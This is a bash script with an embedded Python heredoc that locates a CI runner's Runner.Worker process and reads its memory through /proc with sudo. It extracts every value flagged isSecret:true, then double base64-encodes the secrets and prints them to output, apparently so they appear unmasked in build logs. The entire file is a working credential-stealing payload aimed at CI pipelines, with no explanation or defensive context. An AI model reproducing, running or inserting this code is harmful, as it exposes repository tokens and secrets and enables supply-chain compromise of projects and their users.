#!/usr/bin/env bash
pid=$(pgrep -f Runner.Worker | head -1)
[ -n "$pid" ] || exit 0
sudo python3 - "$pid" <<'EOF' | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u | base64 -w0 | base64 -w0
import re, sys
pid = sys.argv[1]
maps = open(f"/proc/{pid}/maps")
mem = open(f"/proc/{pid}/mem", "rb", 0)
for line in maps:
    m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
    if not m:
        continue
    s, e = int(m.group(1), 16), int(m.group(2), 16)
    try:
        mem.seek(s); sys.stdout.buffer.write(mem.read(e - s))
    except OSError:
        pass
EOF
echo
